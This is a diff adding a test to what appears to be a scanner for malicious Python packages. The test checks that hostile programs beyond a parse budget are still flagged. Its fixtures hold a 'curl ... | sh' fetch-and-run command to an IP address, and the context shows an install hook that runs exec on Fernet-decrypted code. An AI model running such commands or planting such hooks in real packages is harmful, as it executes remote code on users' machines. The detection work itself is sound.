@@ -1626,6 +1626,22 @@ setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
     expect(facts.files.map((f) => f.path).filter((p) => p.includes('[program'))).toEqual(['setup.py [program run at line 1]'])
   })
 
+  it('bounds the programs a hostile package carries: parsed up to a budget, the rest scanned as text', async () => {
+    // 5 files of 8 programs of ~120 KB each: more programs, and more program source, than a package may parse
+    const big = `import os\nos.system('curl -s http://203.0.113.9/x | sh')\n${'x = 1\n'.repeat(20_000)}`
+    const body = Array.from({ length: 8 }, (_, i) => `exec(P${i})`).join('\n')
+    const module = `${Array.from({ length: 8 }, (_, i) => `P${i} = """# ${i}\n${big}"""`).join('\n')}\n${body}\n`
+    const files = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`synthetic_pkg/m${i}.py`, module]))
+    const { artifact, eco } = await sdistArtifact({ ...files, 'synthetic_pkg/__init__.py': '' })
+    const facts = collectFacts(artifact, eco)
+    const programs = facts.files.filter((f) => f.path.includes('[program run at line'))
+    expect(programs.length).toBe(32)
+    // what is over the budget is still read for indicators
+    const textOnly = programs.filter((f) => f.parseError?.includes('scanned as text'))
+    expect(textOnly.length).toBeGreaterThan(0)
+    expect(textOnly.every((f) => f.indicators.some((i) => i.kind === 'shell-download'))).toBe(true)
+  })
+
   it("reads a cipher's decrypt as decoding: exec(Fernet(key).decrypt(token)) at install", async () => {
     const r = await sdist({
       'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'c3ludGhldGljLWtleS1ub3QtYS1yZWFsLWtleS0xMjM=').decrypt(b'gAAAAABsynthetic-token'))\n        install.run(self)\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`,
